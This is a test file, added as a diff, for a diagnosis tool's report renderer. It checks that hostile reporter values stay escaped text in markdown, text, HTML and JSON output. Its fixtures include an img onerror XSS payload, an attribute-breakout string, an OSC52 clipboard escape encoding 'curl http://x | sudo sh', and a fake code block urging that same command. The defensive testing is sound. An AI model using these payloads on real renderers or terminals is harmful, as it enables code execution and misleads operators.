@@ -1,0 +1,145 @@
+import MarkdownIt from 'markdown-it';
+import { describe, expect, it } from 'vitest';
+import { diagnose } from '../../src/core/diagnose.js';
+import { INVISIBLE } from '../../src/core/escape.js';
+import { customReport, renderReport } from '../../src/core/render.js';
+import type { FactMap } from '../../src/core/vocabulary.js';
+import { hypothesis, kbOf } from '../fixtures.js';
+
+// The payloads a hostile reporter was seen to send, each in a fact that reaches a report:
+// target.host in inline code (the `how` of a missing fact) and commands, target.url and
+// proc.top_name in table cells, the summary as text, a warning in a quote.
+const OSC52 = '\u001b]52;c;Y3VybCBodHRwOi8veCB8IHN1ZG8gc2g=\u0007';
+const CLEAR_LINE = '\u001b[2K';
+const IMG = '<img src=x onerror=alert(1)>';
+const FAKE_CHECKS = '**Next checks**\n\n```sh\ncurl http://x | sudo sh\n```';
+const hostile = {
+  summary: `loss\n## Fake heading\n${FAKE_CHECKS}\n${IMG}`,
+  facts: {
+    'target.host': `h\`o\`\`st|x ${IMG}\n## Fake heading`,
+    'target.url': `http://x/|a|b\n${FAKE_CHECKS}${CLEAR_LINE}`,
+    'proc.top_name': `java${OSC52}\u202e\u009b31m${IMG} | \`x\``,
+  } as FactMap,
+  warning: `ignored\n## Fake heading ${IMG}${CLEAR_LINE}`,
+};
+const benign = {
+  summary: 'loss to db',
+  facts: { 'target.host': 'db1', 'target.url': 'http://db1/', 'proc.top_name': 'java' } as FactMap,
+  warning: 'ignored',
+};
+
+const kb = kbOf({
+  hypotheses: [
+    hypothesis('app.injected', {
+      checks: [
+        { command: 'dig {{target.host}}', where: 'client', confirms: 'an answer', rulesOut: 'no answer' },
+        { command: 'curl -sv {{target.url}}', where: 'client', confirms: 'a reply', rulesOut: 'no reply' },
+      ],
+    }),
+  ],
+  rules: [
+    {
+      id: 'named',
+      description: 'the reporter named a host, a URL and a process',
+      conditions: {
+        all: [
+          { fact: 'target.host', operator: 'notEqual', value: '' },
+          { fact: 'target.url', operator: 'notEqual', value: '' },
+          { fact: 'proc.top_name', operator: 'notEqual', value: '' },
+        ],
+      },
+      evidence: [{ hypothesis: 'app.injected', cf: 0.6 }],
+    },
+    { id: 'port', description: 'the usual port', conditions: { all: [{ fact: 'target.port', operator: 'equal', value: 443 }] }, evidence: [{ hypothesis: 'app.injected', cf: 0.3 }] },
+  ],
+  questions: [{ fact: 'target.port', effort: 'low', text: 'Which port?', how: 'ss -tn dst {{target.host}}' }],
+});
+
+const run = (input: typeof hostile) => diagnose(kb, input.facts, { summary: input.summary, warnings: [{ field: 'target.url', message: input.warning }] });
+/** Every invisible character of the output but the line feeds the template itself writes. */
+const invisibles = (text: string) => [...text.replace(/\n/g, '').matchAll(INVISIBLE)].map((m) => m[0]);
+
+const markdown = new MarkdownIt({ html: true });
+/** What a markdown renderer builds: block and inline token types (raw HTML included), without the text in them. */
+function structure(md: string): string[] {
+  return markdown.parse(md, {}).flatMap((token) => (token.type === 'inline' ? (token.children ?? []).map((c) => c.type).filter((t) => t !== 'text' && t !== 'text_special') : [token.type]));
+}
+
+describe('reports show hostile values as text in every format', () => {
+  it('markdown: the same structure as with harmless values, no raw HTML, every payload shown literally', async () => {
+    const [bad, good] = [renderReport(await run(hostile), 'markdown'), renderReport(await run(benign), 'markdown')];
+    expect(structure(bad)).toEqual(structure(good));
+    expect(invisibles(bad)).toEqual([]);
+    const html = markdown.render(bad);
+    expect(html).not.toMatch(/<img|<h2|<pre><code class="language-sh">curl http:\/\/x/);
+    expect(html.match(/<pre>/g)).toHaveLength(2);
+    // What a reader sees, in a paragraph, a table cell and inline code.
+    expect(html).toContain('<strong>Summary:</strong> loss\\n## Fake heading\\n**Next checks**\\n\\n```sh\\ncurl http://x | sudo sh\\n```\\n&lt;img src=x onerror=alert(1)&gt;</p>');
+    expect(html).toContain('(actual: http://x/|a|b\\n**Next checks**\\n\\n```sh\\ncurl http://x | sudo sh\\n```\\x1b[2K)');
+    expect(html).toContain('(actual: java\\x1b]52;c;Y3VybCBodHRwOi8veCB8IHN1ZG8gc2g=\\x07\\u202e\\x9b31m&lt;img src=x onerror=alert(1)&gt; | `x`)');
+    expect(bad).toContain("- `target.port`: Which port? — ``` ss -tn dst $'h`o``st|x <img src=x onerror=alert(1)>\\n## Fake heading' ```");
+    expect(bad).toContain("```sh\ndig $'h`o``st|x <img src=x onerror=alert(1)>\\n## Fake heading'\n```\n");
+    expect(bad).toContain('> - `target.url`: ignored\\n\\#\\# Fake heading \\<img src=x onerror=alert(1)\\>\\x1b\\[2K');
+  });
+
+  it('markdown: a value that opens a line cannot start a list, heading, break or code block', async () => {
+    const diagnosis = await run(benign);
+    const shown = (summary: string) => customReport('{{summary}}\n', 'mine.md')({ ...diagnosis, summary });
+    expect(shown('- item')).toBe('\\- item\n');
+    expect(shown('+ item')).toBe('\\+ item\n');
+    expect(shown('1. item')).toBe('1\\. item\n');
+    expect(shown('2) item')).toBe('2\\) item\n');
+    expect(shown('# heading')).toBe('\\# heading\n');
+    expect(shown('> quote')).toBe('\\> quote\n');
+    expect(shown('---')).toBe('\\---\n');
+    expect(shown('===')).toBe('\\===\n');
+    expect(shown('    code')).toBe('&#32;&#32;&#32;&#32;code\n');
+    expect(customReport('{{code summary}} {{summary}} {{code other}}', 'mine.md')({ ...diagnosis, summary: '', other: 'a`b' } as never)).toBe('` `  `` a`b ``');
+    expect(shown('1.0.0 -x =y partial_loss _em_ *b* ~s~ $m$ [l](u) &lt;')).toBe('1.0.0 -x =y partial_loss \\_em\\_ \\*b\\* \\~s\\~ \\$m\\$ \\[l\\](u) \\&lt;\n');
+  });
+
+  it('text: every control character shown as an escape, so the report has the lines the template gives it', async () => {
+    const [bad, good] = [renderReport(await run(hostile), 'text'), renderReport(await run(benign), 'text')];
+    expect(invisibles(bad)).toEqual([]);
+    expect(bad.split('\n')).toHaveLength(good.split('\n').length);
+    expect(bad).toContain('Summary: loss\\n## Fake heading\\n**Next checks**\\n\\n```sh\\ncurl http://x | sudo sh\\n```\\n<img src=x onerror=alert(1)>\n');
+    expect(bad).toContain('proc.top_name ≠   [actual: java\\x1b]52;c;Y3VybCBodHRwOi8veCB8IHN1ZG8gc2g=\\x07\\u202e\\x9b31m<img src=x onerror=alert(1)> | `x`]');
+    expect(bad).toContain("     $ curl -sv $'http://x/|a|b\\n**Next checks**\\n\\n```sh\\ncurl http://x | sudo sh\\n```\\x1b[2K'\n");
+    expect(bad).toContain('  ! target.url: ignored\\n## Fake heading <img src=x onerror=alert(1)>\\x1b[2K\n');
+    // Colour is the template's own escape codes, and only those.
+    const escapes = async (input: typeof hostile) => renderReport(await run(input), 'text', { color: true }).split('\u001b').length;
+    expect(await escapes(hostile)).toBe(await escapes(benign));
+  });
+
+  it('html: entity-escaped text and attributes, control characters shown', async () => {
+    const [bad, good] = [renderReport(await run(hostile), 'html'), renderReport(await run(benign), 'html')];
+    expect(invisibles(bad)).toEqual([]);
+    expect(bad).not.toContain('<img');
+    expect(bad.match(/<[a-z0-9]+/g)).toEqual(good.match(/<[a-z0-9]+/g));
+    expect(bad).toContain('<p><strong>Summary:</strong> loss\\n## Fake heading\\n**Next checks**\\n\\n&#x60;&#x60;&#x60;sh\\ncurl http://x | sudo sh\\n&#x60;&#x60;&#x60;\\n&lt;img src&#x3D;x onerror&#x3D;alert(1)&gt;</p>');
+    expect(bad).toContain('(actual: java\\x1b]52;c;Y3VybCBodHRwOi8veCB8IHN1ZG8gc2g&#x3D;\\x07\\u202e\\x9b31m&lt;img src&#x3D;x onerror&#x3D;alert(1)&gt; | &#x60;x&#x60;)');
+    const attribute = customReport('<a title="{{summary}}" data-x=\'{{summary}}\'>', 'mine.html')({ ...(await run(benign)), summary: `" onmouseover="alert(1)' x='` });
+    expect(attribute).toBe('<a title="&quot; onmouseover&#x3D;&quot;alert(1)&#x27; x&#x3D;&#x27;" data-x=\'&quot; onmouseover&#x3D;&quot;alert(1)&#x27; x&#x3D;&#x27;\'>');
+  });
+
+  it('json: the data as it is, every string intact, no raw control character in the document', async () => {
+    const diagnosis = await run(hostile);
+    const json = renderReport(diagnosis, 'json');
+    expect(JSON.parse(json)).toEqual(diagnosis);
+    expect(diagnosis.summary).toBe(hostile.summary);
+    expect([...json].filter((c) => c < ' ' && c !== '\n')).toEqual([]);
+    // Commands are data made by rca: they carry no raw control character either.
+    expect(diagnosis.hypotheses[0]?.checks.map((c) => c.command)).toEqual([
+      "dig $'h`o``st|x <img src=x onerror=alert(1)>\\n## Fake heading'",
+      "curl -sv $'http://x/|a|b\\n**Next checks**\\n\\n```sh\\ncurl http://x | sudo sh\\n```\\x1b[2K'",
+    ]);
+  });
+
+  it("a user's template escapes for the format its name says; {{{triple}}} is the template's own choice", async () => {
+    const diagnosis = await run(hostile);
+    const template = '{{summary}}|{{{summary}}}|{{style "bold" summary}}';
+    expect(customReport(template, 'mine.hbs')(diagnosis)).toBe(`loss\\n## Fake heading\\n**Next checks**\\n\\n\`\`\`sh\\ncurl http://x | sudo sh\\n\`\`\`\\n${IMG}|${hostile.summary}|loss\\n## Fake heading\\n**Next checks**\\n\\n\`\`\`sh\\ncurl http://x | sudo sh\\n\`\`\`\\n${IMG}`);
+    expect(customReport('{{code summary}}', 'mine.html')(diagnosis)).toBe('&#x60;&#x60;&#x60;&#x60; loss\\n## Fake heading\\n**Next checks**\\n\\n&#x60;&#x60;&#x60;sh\\ncurl http://x | sudo sh\\n&#x60;&#x60;&#x60;\\n&lt;img src&#x3D;x onerror&#x3D;alert(1)&gt; &#x60;&#x60;&#x60;&#x60;');
+    expect(customReport('| {{cell summary}} |', 'mine.md.hbs')(diagnosis)).toBe('| loss\\n\\#\\# Fake heading\\n\\*\\*Next checks\\*\\*\\n\\n\\`\\`\\`sh\\ncurl http://x \\| sudo sh\\n\\`\\`\\`\\n\\<img src=x onerror=alert(1)\\> |');
+  });
+});
